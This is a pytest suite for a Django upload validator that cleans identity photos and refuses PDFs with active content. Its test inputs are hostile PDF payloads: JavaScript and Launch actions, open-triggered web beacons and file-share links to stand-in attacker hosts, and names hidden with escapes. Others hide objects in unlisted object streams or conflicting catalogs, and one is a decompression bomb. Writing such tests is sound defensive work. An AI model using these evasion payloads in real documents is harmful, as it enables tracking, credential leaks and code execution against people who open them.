import io
import subprocess
import sys
import zlib

import pikepdf
import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from PIL import ExifTags, Image, ImageOps

from verification.documents import DOCUMENT_MAX_SIDE, document_process
from verification.pdf_scan import MEMORY_BYTES
from verification.tests.samples import (
    BLUE,
    PAGE,
    PAGES,
    RED,
    jpeg_with_gps,
    jpeg_with_malformed_exif,
    pdf,
    pdf_in_object_streams,
    pdf_objects,
    pdf_opening_with,
    png_scan,
    upload,
)


def refusal(content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as refused:
        document_process(upload("doc.pdf", content))
    return refused.value


def near(pixel, expected, tolerance: int = 40) -> bool:
    return all(abs(a - b) <= tolerance for a, b in zip(pixel, expected, strict=True))


@pytest.mark.reliability("upload-broken")
def test_a_photo_is_re_encoded_readable_and_without_metadata():
    processed = document_process(upload("id.jpg", jpeg_with_gps(3000, 2000)))
    image = Image.open(io.BytesIO(processed.read()))
    assert processed.content_type == "image/jpeg"
    assert image.format == "JPEG"
    # Fitted, not cropped to a square like an avatar.
    assert image.size == (DOCUMENT_MAX_SIDE, DOCUMENT_MAX_SIDE * 2 // 3)
    assert not image.getexif()
    assert "comment" not in image.info and "exif" not in image.info
    processed.seek(0)
    raw = processed.read()
    assert b"PhoneMaker" not in raw and b"secret comment" not in raw


def test_a_small_png_scan_keeps_its_size_and_becomes_jpeg():
    processed = document_process(upload("scan.png", png_scan(800, 500)))
    image = Image.open(io.BytesIO(processed.read()))
    assert (image.format, image.size) == ("JPEG", (800, 500))
    assert processed.name.endswith(".jpg")


def test_a_photo_whose_exif_has_a_tag_of_the_wrong_type_is_turned_upright():
    processed = document_process(upload("id.jpg", jpeg_with_malformed_exif(400, 300)))
    image = Image.open(io.BytesIO(processed.read()))
    # Turned 90 degrees clockwise: the red left half is now on top.
    assert image.size == (300, 400)
    assert near(image.getpixel((150, 20)), RED)
    assert near(image.getpixel((150, 380)), BLUE)
    assert not image.getexif()


@pytest.mark.parametrize("orientation", range(1, 9))
def test_every_exif_orientation_turns_the_document_as_pillow_does(orientation):
    # Four colours in the quadrants, larger than the document size, so the
    # image is fitted before it is turned.
    source = Image.new("RGB", (2400, 1600), (255, 0, 0))
    source.paste((0, 255, 0), (1200, 0, 2400, 800))
    source.paste((0, 0, 255), (0, 800, 1200, 1600))
    source.paste((255, 255, 0), (1200, 800, 2400, 1600))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    buffer = io.BytesIO()
    source.save(buffer, "JPEG", exif=exif)
    expected = ImageOps.exif_transpose(Image.open(io.BytesIO(buffer.getvalue())))

    image = Image.open(
        io.BytesIO(document_process(upload("id.jpg", buffer.getvalue())).read())
    )

    assert max(image.size) == DOCUMENT_MAX_SIDE
    assert (image.width > image.height) == (expected.width > expected.height)
    for x, y in ((0.25, 0.25), (0.75, 0.25), (0.25, 0.75), (0.75, 0.75)):
        assert near(
            image.getpixel((int(x * image.width), int(y * image.height))),
            expected.getpixel((int(x * expected.width), int(y * expected.height))),
        )


def test_a_pdf_is_kept_as_sent():
    content = pdf()
    processed = document_process(upload("id.pdf", content))
    assert processed.content_type == "application/pdf"
    assert processed.read() == content
    assert processed.name.endswith(".pdf")


@pytest.mark.parametrize(
    ("content", "code", "words"),
    [
        (b"%PDF-1.4\nnothing else", "pdf_invalid", "incomplete"),
        (b"%PDF-x not a version\n%%EOF", "pdf_invalid", "not a valid PDF"),
        (b"%PDF-1.7\nno objects at all\n%%EOF\n", "pdf_invalid", "not a valid PDF"),
        (
            pdf_objects(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [] /Count 0 >>",
            ),
            "pdf_invalid",
            "not a valid PDF",
        ),
        (
            pdf(b"4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n"),
            "pdf_active_content",
            "scripts",
        ),
        (
            pdf(b"4 0 obj << /Type /EmbeddedFile >> endobj\n"),
            "pdf_active_content",
            "attached files",
        ),
        (b"<html><script>alert(1)</script></html>", "format_not_allowed", "JPEG, PNG"),
        (b"GIF89a" + b"\x00" * 40, "format_not_allowed", "JPEG, PNG"),
    ],
)
@pytest.mark.reliability("upload-types")
def test_refusals_say_why(content, code, words):
    with pytest.raises(ValidationError) as refused:
        document_process(upload("doc.pdf", content))
    assert refused.value.code == code
    assert words in " ".join(refused.value.messages)


@pytest.mark.reliability("upload-types")
def test_a_webp_image_is_refused_naming_the_formats():
    buffer = io.BytesIO()
    Image.new("RGB", (50, 50)).save(buffer, "WEBP")
    with pytest.raises(ValidationError) as refused:
        document_process(upload("id.webp", buffer.getvalue()))
    assert refused.value.code == "format_not_allowed"


def test_the_size_limit_comes_from_the_setting(settings):
    settings.IDENTITY_DOCUMENT_MAX_SIZE = 1024
    with pytest.raises(ValidationError) as refused:
        document_process(upload("id.pdf", pdf(b"%" + b"x" * 2000 + b"\n")))
    assert refused.value.code == "file_too_large"
    assert "The maximum is" in refused.value.messages[0]


def test_a_pdf_in_object_streams_with_links_is_kept_as_sent():
    def add_link(document):
        document.pages[0].Annots = document.make_indirect(
            pikepdf.Array(
                [
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot,
                        Subtype=pikepdf.Name.Link,
                        Rect=[0, 0, 100, 20],
                        A=pikepdf.Dictionary(
                            S=pikepdf.Name.URI, URI=pikepdf.String("https://a.test/")
                        ),
                    )
                ]
            )
        )

    content = pdf_in_object_streams(add_link)
    processed = document_process(upload("id.pdf", content))
    assert processed.content_type == "application/pdf"
    assert processed.read() == content


@pytest.mark.reliability("upload-types")
@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
        b"<< /S /L#61unch /F (calc.exe) >>",
        b"<< /S /#47oToR /F (//attacker.test/share/x.pdf) /D [0 /Fit] >>",
        b"<< /S /GoTo /D [3 0 R /Fit]"
        b" /Next << /S /Submit#46orm /F (https://a.test) >> >>",
    ],
)
def test_actions_named_with_escapes_are_refused(action):
    # /J#61vaScript is /JavaScript to a viewer.
    refused = refusal(pdf_opening_with(action))
    assert refused.code == "pdf_active_content"
    assert "scripts, actions or attached files" in refused.messages[0]


@pytest.mark.reliability("upload-types")
def test_a_script_in_a_compressed_object_stream_is_refused():
    def open_with_script(document):
        document.Root.OpenAction = document.make_indirect(
            pikepdf.Dictionary(
                S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
            )
        )

    content = pdf_in_object_streams(open_with_script)
    assert b"JavaScript" not in content  # only in the compressed stream
    refused = refusal(content)
    assert refused.code == "pdf_active_content"
    assert "scripts, actions or attached files" in refused.messages[0]


def _page_opening_submits_a_form(document):
    document.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(
            S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://a.test/")
        )
    )


def _attached_file(document):
    document.attachments["notes.txt"] = pikepdf.AttachedFileSpec(
        document, b"hello", mime_type="text/plain"
    )


@pytest.mark.parametrize("change", [_page_opening_submits_a_form, _attached_file])
def test_other_active_content_in_object_streams_is_refused(change):
    assert refusal(pdf_in_object_streams(change)).code == "pdf_active_content"


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /S /URI /URI (https://203.0.113.9/opened?doc=1) >>",
    ],
    ids=["script", "web-beacon"],
)
def test_an_object_packed_in_an_object_stream_that_no_table_lists_is_refused(action):
    # The catalog opens object 4, the object stream itself, which packs another
    # object 4. qpdf follows the table and never reads the packed one; a viewer
    # that rebuilds the table might.
    packed = zlib.compress(b"4 0 " + action)
    stream = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream" % (len(packed), packed)
    )
    content = pdf_objects(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE, stream
    )
    assert refusal(content).code == "pdf_active_content"


def test_an_object_qpdf_cannot_read_is_still_searched_for_names():
    # qpdf gives up on object 4 after too many errors and reads it as null.
    content = pdf(b"4 0 obj << " + b"} " * 20 + b"/S /L#61unch /F (x) >> endobj\n")
    assert refusal(content).code == "pdf_active_content"


def test_an_object_stream_inflating_past_the_limit_is_refused_not_inflated():
    packed = zlib.compress(b"5 0 << /A 1 >>" + b" " * (20 * 1024 * 1024), 9)
    stream = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream" % (len(packed), packed)
    )
    content = pdf_objects(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE, stream)
    assert len(content) < 100_000
    assert refusal(content).code == "pdf_invalid"


@pytest.mark.reliability("upload-bombs")
def test_a_pdf_costly_to_parse_is_parsed_within_the_childs_memory(tmp_path):
    # 7 MB of numbers in one array took qpdf 636 MB and 3.7 s; the check runs
    # in a child process of its own, whose memory is capped.
    (tmp_path / "costly.pdf").write_bytes(
        pdf(b"4 0 obj\n[" + b"0 " * 3_500_000 + b"]\nendobj\n")
    )
    script = (
        "import resource, sys\n"
        "from verification.pdf_scan import pdf_scan_isolated\n"
        "verdict = pdf_scan_isolated(open(sys.argv[1], 'rb').read())\n"
        "peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss\n"
        "print(verdict, peak)\n"
    )

    result = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path / "costly.pdf")],
        cwd=settings.BASE_DIR,
        capture_output=True,
        text=True,
        check=True,
    )

    verdict, peak_kib = result.stdout.split()
    assert verdict in {"plain", "invalid", "too_complex"}
    assert int(peak_kib) * 1024 <= MEMORY_BYTES


@pytest.mark.parametrize("user_password", ["", "secret"])
def test_encrypted_pdfs_are_refused(user_password):
    document = pikepdf.new()
    document.add_blank_page()
    buffer = io.BytesIO()
    document.save(
        buffer, encryption=pikepdf.Encryption(owner="owner", user=user_password)
    )
    refused = refusal(buffer.getvalue())
    assert refused.code == "pdf_encrypted"
    assert "password" in refused.messages[0]


def _link(
    action: bytes, annotation: bytes = b"/Subtype /Link /A 4 0 R", catalog: bytes = b""
) -> bytes:
    """A one-page PDF whose page has an annotation (object 5), by default a link
    running ``action`` (object 4) when clicked."""
    return pdf_objects(
        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >>"
        b" /Annots [5 0 R] >>",
        action,
        b"<< /Type /Annot /Rect [0 0 100 20] %s >>" % annotation,
    )


def _page_shown_runs(action: bytes) -> bytes:
    return pdf_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >>"
        b" /AA << /O 4 0 R >> >>",
        action,
    )


WEB = b"<< /S /URI /URI (https://203.0.113.9/opened?doc=1) >>"


@pytest.mark.reliability("upload-types")
@pytest.mark.parametrize(
    "content",
    [
        pdf_opening_with(b"<< /S /URI /URI (file://203.0.113.9/share/x.pdf) >>"),
        pdf_opening_with(b"<< /S /URI /URI (\\\\\\\\203.0.113.9\\\\share\\\\x) >>"),
        pdf_opening_with(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"),
        pdf_opening_with(WEB),
        pdf_opening_with(b"<< /S /#55RI /U#52I (https://203.0.113.9/opened) >>"),
        pdf_opening_with(b"<< /S /GoTo /D [3 0 R /Fit] /Next [" + WEB + b"] >>"),
        # An unlisted, older-style file, which qpdf repairs.
        pdf(b"4 0 obj " + WEB + b" endobj\n").replace(
            b"/Type /Catalog", b"/Type /Catalog /OpenAction 4 0 R"
        ),
        # Two catalogs: qpdf reads the second, opening at a page; a viewer that
        # repairs the file differently may read the first.
        pdf(
            b"4 0 obj " + WEB + b" endobj\n"
            b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"
            b" endobj\n"
        ).replace(
            b"/Type /Catalog /Pages 2 0 R >>",
            b"/Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        ),
        _page_shown_runs(WEB),
        _link(
            WEB, b"/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] >> /AA << /E 4 0 R >>"
        ),
        _link(b"<< /S /URI /URI (file://203.0.113.9/share/x.pdf) >>"),
        _link(b"<< /S /URI /URI (smb://203.0.113.9/share) >>"),
        _link(b"<< /S /URI /URI (\\\\\\\\203.0.113.9\\\\share) >>"),
        _link(b"<< /S /URI /URI ( https://a.test) >>"),
        _link(b"<< /S /URI /URI (data:text/html,<script>alert\\(1\\)</script>) >>"),
        _link(b"<< /S /URI /URI (https://a.test) /Next " + WEB + b" >>"),
        _link(WEB, b"/Subtype /Widget /FT /Btn /A 4 0 R"),
    ],
    ids=[
        "open-file-url",
        "open-unc-path",
        "open-javascript-url",
        "open-web-beacon",
        "open-with-escaped-names",
        "open-then-next",
        "open-in-a-repaired-file",
        "open-at-a-page-and-with-an-address-in-a-repaired-file",
        "page-shown",
        "link-hovered",
        "link-to-file-url",
        "link-to-smb",
        "link-to-unc-path",
        "link-with-leading-space",
        "link-to-data-url",
        "link-then-next",
        "form-button",
    ],
)
def test_a_uri_run_without_a_click_or_to_a_file_share_is_refused(content):
    refused = refusal(content)
    assert refused.code == "pdf_active_content"
    assert "scripts, actions or attached files" in refused.messages[0]


@pytest.mark.reliability("upload-types")
def test_a_web_beacon_a_repairing_viewer_may_read_instead_is_refused():
    # Object 4 twice: qpdf reads the second, a go-to; a viewer that repairs the
    # file may read the first, an address fetched on opening.
    content = pdf(
        b"4 0 obj " + WEB + b" endobj\n4 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj\n"
    ).replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction 4 0 R")
    assert refusal(content).code == "pdf_active_content"


@pytest.mark.parametrize(
    "content",
    [
        _link(b"<< /S /URI /URI (https://bank.example/statement) >>"),
        _link(b"<< /Type /Action /S /URI /URI (HTTP://bank.example/) >>"),
        _link(b"<< /S /URI /URI (mailto:help@bank.example) >>"),
        _link(b"<< /S /URI /URI (tel:+441234567) >>"),
        # Opening at the first page, as exporting programs write it.
        _link(WEB, catalog=b"/OpenAction [3 0 R /Fit] "),
        pdf(
            b"4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
            b" /A << /S /URI /URI (https://bank.example/) >> >> endobj\n"
        ).replace(
            b"/MediaBox [0 0 595 842]", b"/MediaBox [0 0 595 842] /Annots [4 0 R]"
        ),
    ],
    ids=["https", "http", "mailto", "tel", "with-open-destination", "repaired-file"],
)
def test_a_link_to_a_web_mail_or_phone_address_is_kept(content):
    processed = document_process(upload("statement.pdf", content))
    assert processed.content_type == "application/pdf"
    assert processed.read() == content


@pytest.mark.parametrize(
    "object_streams",
    [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate],
    ids=["objects", "object-streams"],
)
def test_a_repaired_pdf_with_links_opening_at_a_page_is_kept(object_streams):
    # As Chromium prints a page with links (an action of its own for the last
    # one), then a gateway adds a line after the header, so every offset is off.
    document = pikepdf.new()
    document.add_blank_page()
    page = document.pages[0]
    action = document.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Action,
            S=pikepdf.Name.URI,
            URI=pikepdf.String("https://bank.example/statement"),
        )
    )
    page.Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=[0, 0, 100, 20],
                A=link_action,
            )
            for link_action in (
                pikepdf.Dictionary(
                    S=pikepdf.Name.URI, URI=pikepdf.String("mailto:a@bank.example")
                ),
                action,
            )
        ]
    )
    document.Root.OpenAction = pikepdf.Array(
        [page.obj, pikepdf.Name.XYZ, None, None, 0]
    )
    buffer = io.BytesIO()
    document.save(buffer, object_stream_mode=object_streams)
    header, rest = buffer.getvalue().split(b"\n", 1)
    content = header + b"\n% added by a scanner gateway\n" + rest
    with pikepdf.open(io.BytesIO(content)) as repaired:
        assert "damaged" in " ".join(repaired.get_warnings())

    processed = document_process(upload("statement.pdf", content))
    assert processed.content_type == "application/pdf"
    assert processed.read() == content
